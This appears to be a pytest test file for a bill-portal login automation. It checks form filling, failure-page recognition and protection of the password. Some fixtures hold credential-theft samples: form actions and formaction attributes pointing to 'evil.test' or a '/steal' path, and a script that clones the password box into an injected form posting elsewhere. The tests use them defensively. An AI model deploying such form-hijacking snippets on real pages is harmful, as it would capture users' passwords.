"""The login form is filled in on its own site only, and only what is proven is a success."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from bills.browser.plan import Login, Watch
from bills.browser.report import Stage
from bills.portals.failures import Code, PortalError
from config.dev.sandbox.http_server import Reply
from tests.bills.browsing import CANARY, EMAIL, LOG_OUT, LOGIN_PAGE, bill_table, page

if TYPE_CHECKING:
    from bills.browser.report import AttemptReport
    from tests.bills.browsing import Pages, Together, Visitor

pytest_plugins = ("tests.bills.browser_fixtures",)

NO_BILLS = "<p>You have no bills yet.</p>"
SWEDISH = """<h1>Logga in</h1><p>Är ditt konto låst? Ring oss.</p>
<form method="post" action="/site/login"><label>Kundnummer <input name="kundnr"></label>
<label>Lösenord <input name="password" type="password"></label>
<a href="#">Glömt lösenordet?</a><button type="button">Visa lösenord</button>
<input type="submit" value="Logga in"></form>"""
TWO_STEPS = """<form onsubmit="event.preventDefault(); this.hidden = true; second.hidden = false">
<label>E-mail <input type="email"></label><button>Next</button></form>
<form id="second" hidden method="post" action="/site/login">
<label>Password <input name="password" type="password"></label><button>Log in</button></form>"""
LATE = (
    """<div id="app">Loading</div><script>setTimeout(() => app.innerHTML = `%s`, 400)</script>"""
)


def answered(pages: Pages, visitor: Visitor, reply: Reply, **outcomes: object) -> AttemptReport:
    """What becomes of a login that the portal answers so."""
    pages.show("/login", LOGIN_PAGE)
    pages.reply("POST /login", reply)
    pages.show("/bills", LOG_OUT + NO_BILLS)
    return visitor.visit({"outcomes": outcomes, "login": {"answer_seconds": 2}})


USUAL = (LOGIN_PAGE, SWEDISH, TWO_STEPS, LATE % LOGIN_PAGE)


def log_in(visitor: Visitor, login: str) -> AttemptReport:
    visitor.pages.portal(NO_BILLS, login)
    return visitor.visit()


@pytest.mark.parametrize("login", USUAL)
def test_usual_forms_are_filled_in_without_a_recipe(together: Together, login: str) -> None:
    report, pages = together(log_in, USUAL)[login]
    assert report.code is None, report.error
    assert pages.passwords == [CANARY]
    assert report.password_submissions == 1


def test_the_recipe_names_fields_and_buttons(pages: Pages, visitor: Visitor) -> None:
    form = LOGIN_PAGE.replace("<label>E-mail <input", "<input type=search><input id=who")
    odd = form.replace("<button>", "<button type=button>Log in with an app</button><button>")
    pages.portal(
        NO_BILLS, f"<button onclick='f.hidden = false'>Open</button><div id=f hidden>{odd}"
    )
    recipe = {
        "steps": [{"click": {"text": "Open"}}],
        "email": {"selector": "#who"},
        "password": {"label": "Password"},
        "submit": {"role": "button", "name": "Log in"},
    }
    report = visitor.visit({"login": recipe})
    assert report.code is None, report.error
    assert pages.passwords == [CANARY]


def test_a_banner_is_pressed_away_whenever_it_comes(pages: Pages, visitor: Visitor) -> None:
    banner = """<div id=b class=consent style="position:fixed;inset:0;background:white">
    <button onclick="b.remove()">Accept all</button></div>"""
    pages.portal(banner + NO_BILLS, LOGIN_PAGE + LATE % banner)
    assert visitor.visit().code is None
    pages.portal(NO_BILLS, LOGIN_PAGE + banner.replace("Accept all", "Go away"))
    report = visitor.visit({"overlays": [{"role": "button", "name": "Go away"}]})
    assert report.code is None, report.error


@pytest.mark.parametrize(
    "form",
    [
        LOGIN_PAGE.replace("/site/login", "http://localhost:1/steal"),
        LOGIN_PAGE.replace("<button>", "<button formaction='https://evil.test/'>"),
        LOGIN_PAGE.replace('action="/site/login"', "") + "<base href='http://localhost:1/'>",
    ],
)
def test_a_password_is_not_typed_into_a_form_that_leads_elsewhere(
    pages: Pages, visitor: Visitor, form: str
) -> None:
    pages.portal(NO_BILLS, form)
    report = visitor.visit({"hosts": ["localhost", "evil.test"]})
    assert (report.code, report.stage) == (Code.OTHER_SITE, Stage.LOGIN)
    assert "Nothing was typed." in report.error
    assert (pages.passwords, report.password_submissions) == ([], 0)


COPIES = """<script>const box = document.querySelector("[type=password]");
const made = document.createElement("form");
const seen = new MutationObserver(() => {
  seen.disconnect();
  made.append(box.cloneNode());
  document.body.prepend(made);
});
seen.observe(box, {attributeFilter: ["MARK"]});</script>"""


def test_a_password_is_not_typed_into_a_copy_of_its_box(pages: Pages, visitor: Visitor) -> None:
    """A script copies the box, with whatever we have put on it, into a form of its own."""
    copy = COPIES.replace("MARK", "data-redrive-box")
    for form, code in (
        (copy, Code.NAVIGATION),
        (copy.replace('"form");', '"form"); made.action = "http://evil.test";'), Code.OTHER_SITE),
    ):
        pages.portal(NO_BILLS, LOGIN_PAGE + form)
        report = visitor.visit()
        assert report.code is code, report.error
        assert "Nothing was typed." in report.error
        assert (pages.passwords, report.password_submissions) == ([], 0)


def test_a_box_copied_at_the_first_look_is_one_of_several(pages: Pages, visitor: Visitor) -> None:
    copy = COPIES.replace("MARK", "data-redrive-form")
    pages.portal(NO_BILLS, LOGIN_PAGE + copy.replace('"form");', '"form"); made.action = "/x";'))
    report = visitor.visit()
    assert report.code is None, report.error
    assert (pages.passwords, report.password_submissions) == ([CANARY], 1)
    assert "POST /site/login" in pages.asked


def test_another_form_that_leads_nowhere_is_in_nobodys_way(pages: Pages, visitor: Visitor) -> None:
    pages.portal(NO_BILLS, "<form action='http://[/'><input name=q></form>" + LOGIN_PAGE)
    report = visitor.visit()
    assert report.code is None, report.error


def test_a_box_without_any_size_asks_for_no_password(pages: Pages, visitor: Visitor) -> None:
    pages.portal(NO_BILLS + "<input type=password style='all:unset; position:fixed; width:0'>")
    report = visitor.visit()
    assert report.code is None, report.error


def test_a_password_is_not_typed_on_another_site(pages: Pages, visitor: Visitor) -> None:
    elsewhere = pages.url.replace("127.0.0.1", "localhost")
    pages.reply("GET /login", Reply(303, headers=[("Location", elsewhere + "/site/other")]))
    pages.show("/other", LOGIN_PAGE)
    report = visitor.visit()
    assert (report.code, report.stage) == (Code.OTHER_SITE, Stage.OPEN)
    assert "GET /site/other" not in pages.asked
    # With the host allowed, its page is read, but it is still not told the password.
    report = visitor.visit({"hosts": ["localhost"]})
    assert (report.code, report.stage) == (Code.OTHER_SITE, Stage.LOGIN)
    assert "GET /site/other" in pages.asked
    assert pages.passwords == []


ANSWERS = {
    "<p>Felaktigt användarnamn eller lösenord.</p>" + SWEDISH: Code.LOGIN_FAILED,
    "<p>E-mail or password is incorrect</p>" + LOGIN_PAGE: Code.LOGIN_FAILED,
    "<p>Ditt konto är spärrat</p>": Code.LOCKED,
    "<p>Ditt lösenord har gått ut.</p>": Code.PASSWORD_EXPIRED,
    "<p>Ange engångskoden som vi skickat</p>": Code.OTP_NEEDED,
    "<div class=h-captcha>Are you human?</div>": Code.CAPTCHA,
    "<p>Stängt för underhåll</p>": Code.MAINTENANCE,
    "<p>Please accept our new terms to continue</p>": Code.ACTION_NEEDED,
    "<p>Hello</p>": Code.UNRECOGNISED_PAGE,
    LOGIN_PAGE + LOG_OUT: Code.UNRECOGNISED_PAGE,
}


def be_answered(visitor: Visitor, body: str) -> AttemptReport:
    return answered(visitor.pages, visitor, page(body))


@pytest.mark.parametrize("body", ANSWERS)
def test_what_the_portal_says_is_understood_without_a_recipe(
    together: Together, body: str
) -> None:
    report = together(be_answered, ANSWERS)[body].report
    assert (report.code, report.stage) == (ANSWERS[body], Stage.JUDGE), report.error
    assert report.password_submissions == 1


def test_the_recipe_says_what_an_answer_means(pages: Pages, visitor: Visitor) -> None:
    report = answered(pages, visitor, page("<p>Nope, try again</p>"), refused=[{"text": "NOPE,"}])
    assert report.code is Code.LOGIN_FAILED
    assert 'Its page says "NOPE,".' in report.error
    shut = answered(pages, visitor, page("<i id=shut>!</i>"), locked=[{"selector": "#shut"}])
    assert shut.code is Code.LOCKED
    sent_on = Reply(303, headers=[("Location", "/site/terms?x=1")])
    pages.show("/terms", "New terms")
    report = answered(pages, visitor, sent_on, action=[{"url": f"{pages.url}/site/terms"}])
    assert report.code is Code.ACTION_NEEDED


def test_a_recipes_success_is_believed_and_nothing_else(pages: Pages, visitor: Visitor) -> None:
    welcome = page(f"<p>Welcome, {EMAIL}</p>{LOGIN_PAGE}")
    assert answered(pages, visitor, welcome, success=[{"text": "Welcome,"}]).code is None
    report = answered(pages, visitor, page(LOG_OUT), success=[{"text": "Welcome,"}])
    assert report.code is Code.UNRECOGNISED_PAGE


def test_a_mark_that_stood_there_before_proves_nothing(pages: Pages, visitor: Visitor) -> None:
    help_text = "<p>Is your account locked? Wrong password? Your account is locked for 1 h.</p>"
    pages.portal(NO_BILLS, help_text + LOGIN_PAGE)
    assert visitor.visit().code is None


SPOKEN_OF = {
    "faults": "<p>Fel på fakturan? Kontakta oss via e-post.</p>",
    "works": "<p>Wartungsarbeiten am Sonntag von 2 bis 4 Uhr.</p>",
    "codes": "<p>From May you must enter a verification code when you log in.</p>",
    "a change of password": """<form><label>Current password <input type=password name=password>
    </label><label>New password <input type=password name=new></label>
    <button>Change password</button></form>""",
}


def be_let_in(visitor: Visitor, spoken: str) -> AttemptReport:
    welcome = page(f"{LOG_OUT}<h1>Hello</h1>{SPOKEN_OF[spoken]}")
    return answered(visitor.pages, visitor, welcome)


@pytest.mark.parametrize("spoken", SPOKEN_OF)
def test_a_home_page_may_speak_of_what_would_refuse_elsewhere(
    together: Together, spoken: str
) -> None:
    report = together(be_let_in, SPOKEN_OF)[spoken].report
    assert report.code is None, report.error


def test_a_way_out_is_no_way_in_beside_a_box_or_a_dialog_that_refuses(
    pages: Pages, visitor: Visitor
) -> None:
    refused = page(f"{LOG_OUT}<p>Wrong password</p>{LOGIN_PAGE}")
    assert answered(pages, visitor, refused).code is Code.LOGIN_FAILED
    alert = page(f"<script>alert('Wrong password')</script>{LOG_OUT}")
    assert answered(pages, visitor, alert).code is Code.LOGIN_FAILED
    wants = page(f"{LOG_OUT}<p>Enter the verification code</p><form><input name=code></form>")
    assert answered(pages, visitor, wants).code is Code.OTP_NEEDED


def test_works_that_are_announced_on_the_login_page_close_nothing(
    pages: Pages, visitor: Visitor
) -> None:
    soon = "<p>My pages will be unavailable due to maintenance on Sunday.</p>"
    pages.portal(NO_BILLS, soon + LOGIN_PAGE)
    assert visitor.visit().code is None
    pages.show("/login", soon)
    assert visitor.visit().code is Code.MAINTENANCE


def test_a_code_that_is_never_expected_can_be_switched_off(pages: Pages, visitor: Visitor) -> None:
    pages.portal("<p>Your account is locked (just a tip)</p>" + NO_BILLS)
    assert visitor.visit().code is Code.LOCKED
    assert visitor.visit({"outcomes": {"locked": []}}).code is None


@pytest.mark.parametrize(
    ("status", "body", "code"),
    [
        (500, "Oops", Code.SITE_5XX),
        (404, "Not found", Code.NAVIGATION),
        (200, "<p>We are down for planned maintenance</p>", Code.MAINTENANCE),
        (200, "<div class=cf-turnstile>Checking</div>", Code.CAPTCHA),
    ],
)
def test_a_login_page_that_is_closed_is_sent_no_password(
    pages: Pages, visitor: Visitor, status: int, body: str, code: Code
) -> None:
    pages.show("/login", body, status)
    report = visitor.visit()
    assert (report.code, report.stage) == (code, Stage.OPEN), report.error
    assert report.password_submissions == 0


def test_a_page_without_a_form_names_the_field(pages: Pages, visitor: Visitor) -> None:
    pages.show("/login", "<h1>Welcome</h1>")
    report = visitor.visit({"login": {"email": {"label": "User"}, "answer_seconds": 1}})
    assert (report.code, report.stage) == (Code.NAVIGATION, Stage.LOGIN)
    assert 'login.email: the page shows no label "User" (waited 1 s).' in report.error


def test_a_page_without_a_form_says_what_may_explain_it(pages: Pages, visitor: Visitor) -> None:
    elsewhere = pages.url.replace("127.0.0.1", "localhost")
    script = f"<script src={elsewhere}/site/form.js></script>"
    pages.show("/login", f"<h1>Logga in</h1><button>Mobilt BankID</button>{script}")
    report = visitor.visit({"login": {"answer_seconds": 1}})
    assert report.code is Code.NAVIGATION
    assert "“Mobilt BankID”" in report.error
    assert "list them: localhost." in report.error
    pages.show("/login", f"<iframe src={elsewhere}/site/form></iframe>")
    pages.show("/form", LOGIN_PAGE)
    report = visitor.visit({"hosts": ["localhost"], "login": {"answer_seconds": 1}})
    assert f"no password in a frame of {elsewhere}" in report.error
    assert pages.passwords == []


def test_the_caller_sees_each_stage_and_may_forbid_the_password(
    pages: Pages, visitor: Visitor
) -> None:
    pages.portal(bill_table() + NO_BILLS)
    stages: list[tuple[str, int, int]] = []
    watch = Watch(stage=lambda *stage: stages.append(stage))
    login = Login(EMAIL, CANARY)
    report = visitor.browser.submit(login, visitor.plan(), watch=watch).result()
    assert report.code is None
    assert [name for name, _, _ in stages] == ["login", "judge", "list", "done"]
    assert list(report.seconds) == ["open", "login", "judge", "list"]

    def forbid() -> None:
        raise PortalError(Code.LOGIN_FAILED, "It was sent often enough.")

    watch = Watch(before_password=forbid)
    report = visitor.browser.submit(login, visitor.plan(), watch=watch).result()
    assert (report.code, report.password_submissions) == (Code.LOGIN_FAILED, 0)
    assert "It was sent often enough." in report.error
    assert pages.passwords == [CANARY]
